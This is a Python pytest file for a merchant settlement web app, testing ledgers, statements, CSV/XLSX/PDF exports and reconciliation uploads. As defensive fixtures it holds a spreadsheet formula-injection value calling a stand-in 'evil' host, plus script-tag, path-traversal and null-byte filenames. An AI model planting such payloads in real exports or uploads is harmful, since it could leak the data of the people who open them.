"""The merchant's money: its ledger, statements and files, and its own file against ours."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pypdfium2
import pytest
from openpyxl import load_workbook

from handlers.merchant import comparisons
from handlers.places import Places
from models import sql
from models.settlement import deductions
from models.settlement.statements import Statement
from models.vouchers.vouchers import Voucher
from tests.handlers.merchant.conftest import Browser, Desk
from tests.settled import sell, state_all

EVIL = '=HYPERLINK("http://evil/"&A1)'


class Sold:
    """Three vouchers at the barber's, one in the second store and deducted; one of another shop."""

    def __init__(self, desk: Desk) -> None:
        self.desk, at = desk, desk.clock() - timedelta(days=45)
        with desk.circle.store.begin() as tx:
            sql.run(tx, "UPDATE offers SET title = %s WHERE code = 'haircut'", [EVIL])
            self.vouchers: list[Voucher] = sell(tx, at=at, count=2)
            self.vouchers += sell(tx, at=at, store_no=2)
            (offer,) = sql.one(tx, "SELECT min(code) FROM offers WHERE merchant_code = 'chaye'")
            self.others = sell(tx, offer=offer, merchant="chaye", at=at)
            gone = self.vouchers[-1]
            deductions.deduct(
                tx, subscriber_id=gone.subscriber_id, voucher_id=gone.id, why="@upheld", now=at
            )
        made = state_all(desk.circle.store, desk.clock())
        self.one = self._first(made, "jinxiu")
        self.others_one = self._first(made, "chaye")

    @staticmethod
    def _first(made: list[Statement], merchant: str) -> Statement:
        return next(one for one in made if one.merchant_code == merchant and one.lines)


@pytest.fixture(scope="module")
def sold(desk: Desk) -> Sold:
    return Sold(desk)


@pytest.fixture
def owner(desk: Desk) -> Browser:
    return desk.as_("owner")


def test_the_ledger_shows_lines_by_day_and_a_clerk_their_store_alone(
    desk: Desk, sold: Sold, owner: Browser
) -> None:
    day = (sold.vouchers[0].issued_at).date()
    span = f"?first={day - timedelta(days=1)}&last={day + timedelta(days=1)}"
    whole = owner.page(f"/merchant/ledger{span}")
    assert "3 笔" in whole
    assert "68.0170 元" in whole  # of three times 34.0085 one was taken back
    assert "投诉扣回 −34.0085 元" in whole
    assert "&lt;" not in EVIL
    assert "=HYPERLINK(&#34;http://evil/&#34;&amp;A1)" in whole  # words, not markup
    assert f"结算单 {sold.one.id}" in whole
    assert "1 笔" in owner.page(f"/merchant/ledger{span}&store=2")
    assert "没有核销" in owner.page(f"/merchant/ledger{span}&state=pending")
    clerk = desk.as_("clerk", store_no=2)
    assert clerk.get(f"/merchant/ledger{span}&store=1").status_code == 400
    page = clerk.page(f"/merchant/ledger{span}")
    assert "1 笔" in page
    assert str(sold.vouchers[0].serial) not in page
    assert clerk.get("/merchant/statements").status_code == 403
    for bad in ("?first=x", "?first=2026-02-01&last=2026-01-01", "?state=%27", "?store=99",
                "?first=0001-01-01", "?before=9999999999999999.1.1"):  # fmt: skip
        assert owner.get(f"/merchant/ledger{bad}").status_code in (200, 400)


def test_a_statement_says_what_is_owed_and_is_its_merchants_alone(
    desk: Desk, sold: Sold, owner: Browser
) -> None:
    page = owner.page("/merchant/statements")
    assert "68.02 元" in page  # two of 34.0085 and one that was taken back
    assert "等待付款" in page
    page = owner.page(f"/merchant/statements/{sold.one.id}")
    assert "扣回：@upheld" in page
    assert sold.one.digest.hex() in page
    for other in (f"{sold.others_one.id}", f"{sold.others_one.id}.csv", "99999999999", "1.exe"):
        assert owner.get(f"/merchant/statements/{other}").status_code == 404


def test_its_files_have_every_line_and_run_nothing(desk: Desk, sold: Sold, owner: Browser) -> None:
    address = f"/merchant/statements/{sold.one.id}"
    answer = owner.get(f"{address}.csv")
    head, *lines = list(csv.reader(io.StringIO(answer.get_data().decode("utf-8-sig"))))
    assert (head[0], head[6]) == ("流水号", "金额（元）")
    assert [line[6] for line in lines] == ["34.0085"] * 3 + ["-34.0085"]
    assert all(line[1] == f"'{EVIL}" for line in lines)
    assert lines[-1][7] == "'@upheld"
    book = load_workbook(io.BytesIO(owner.get(f"{address}.xlsx").get_data()))
    rows = list(book.worksheets[0].values)
    assert [row[6] for row in rows[1:]] == [34.0085] * 3 + [-34.0085]
    assert rows[1][1] == EVIL  # a text of a cell, which no spreadsheet runs
    made = owner.get(f"{address}.pdf")
    document = pypdfium2.PdfDocument(made.get_data())
    text = document[0].get_textpage().get_text_range()
    for words in ("锦绣理发", "68.02 元", str(sold.vouchers[0].serial), f"结算单 {sold.one.id}"):
        assert words in text, words
    assert made.headers["Content-Disposition"].endswith('.pdf"')


def _send(browser: Browser, one: Statement, content: bytes, name: str = "march.csv") -> object:
    path = f"/merchant/statements/{one.id}/compare"
    return browser.client.post(
        path, base_url="https://circle.example",
        data={"form_key": browser.form_key(path), "file": (io.BytesIO(content), name)},
    )  # fmt: skip


def test_its_own_statement_agrees_line_by_line(sold: Sold, owner: Browser) -> None:
    for form in ("csv", "xlsx"):
        content = owner.get(f"/merchant/statements/{sold.one.id}.{form}").get_data()
        page = owner.follow(_send(owner, sold.one, content, f"own.{form}"))  # type: ignore[arg-type]
        assert "4 行一致" in page, form
        assert "没有不一致的行" in page


def test_what_does_not_agree_is_worked_off_with_reasons(
    desk: Desk, sold: Sold, owner: Browser
) -> None:
    serials = [voucher.serial for voucher in sold.vouchers]
    content = (
        f"serial,amount (fen)\n{serials[0]},3401\n{serials[1]},9999\n12,1\n<script>,1\n".encode()
    )
    page = owner.follow(_send(owner, sold.one, content, "<b>.csv"))  # type: ignore[arg-type]
    assert "第 5 行" in page
    assert "&lt;b&gt;.csv" in page
    assert page.count("结束这一行</button>") == 4  # one differs, two only ours, one only theirs
    ((number,),) = desk.rows("SELECT max(id) FROM reconciliations")
    address = f"/merchant/comparisons/{number}"
    assert owner.send(address, no="1", why=" ").status_code == 400
    page = owner.follow(owner.send(address, no="1", why="已打电话核对"))
    assert page.count("结束这一行</button>") == 3
    assert "已打电话核对" in owner.page(f"{address}?all=1")
    assert "别人已经处理过" in owner.follow(owner.send(address, no="1", why="again"))
    entries = desk.rows("SELECT count(*) FROM audit_entries WHERE action LIKE 'settlement.%%'")
    assert entries[0][0] >= 3
    stranger = desk.as_("owner", merchant="chaye")
    assert stranger.get(address).status_code == 404
    assert desk.as_("clerk").get(address).status_code == 403
    assert "march" not in stranger.page("/merchant/comparisons")


@pytest.mark.parametrize(
    ("content", "words"),
    [(b"", "请选|空的"), (b"x" * 70_000, "表头"), (b"PK\x03\x04", "打不开")],
    ids=["empty", "noise", "no zip"],
)
def test_a_file_that_makes_no_sense_is_refused_in_words(
    sold: Sold, owner: Browser, content: bytes, words: str
) -> None:
    answer = _send(owner, sold.one, content)
    assert answer.status_code == 400  # type: ignore[attr-defined]
    assert re.search(words, answer.text)  # type: ignore[attr-defined]


def test_a_file_that_is_too_large_or_from_a_stranger_is_not_read(
    desk: Desk, sold: Sold, owner: Browser
) -> None:
    limits = desk.circle.settings.settlement
    assert _send(owner, sold.one, b"1" * (limits.file_kb + 32) * 1024).status_code == 413  # type: ignore[attr-defined]
    path = f"/merchant/statements/{sold.one.id}/compare"
    nobody = desk.anonymous().forge(path, file=(io.BytesIO(b"1" * 100_000), "x.csv"))
    assert nobody.status_code in (303, 413)
    assert owner.post(path, {"file": (io.BytesIO(b"x"), "x.csv")}).status_code == 403  # no form key


def test_a_file_may_be_called_anything(desk: Desk, sold: Sold, owner: Browser) -> None:
    head = "流水号,金额（元）\n1,1\n".encode()
    for name in ("a\0b.csv", "../../<blink>.csv"):
        answer = _send(owner, sold.one, head, name)
        assert "<blink>" not in owner.follow(answer)  # type: ignore[arg-type]


def test_few_files_are_compared_at_once_and_one_of_each_person(
    sold: Sold, owner: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert owner.operator is not None
    places = Places(comparisons.FILES_AT_ONCE)
    monkeypatch.setattr(comparisons, "_places", places)
    assert places.take(owner.operator.id)
    path = f"/merchant/statements/{sold.one.id}/compare"

    def status() -> int:
        file = io.BytesIO("流水号,金额（元）\n1,1\n".encode())
        return owner.send(path, file=(file, "march.csv")).status_code

    assert status() == 503
    places.free(owner.operator.id)
    assert [status(), status()] == [303, 303]  # each gives its place back
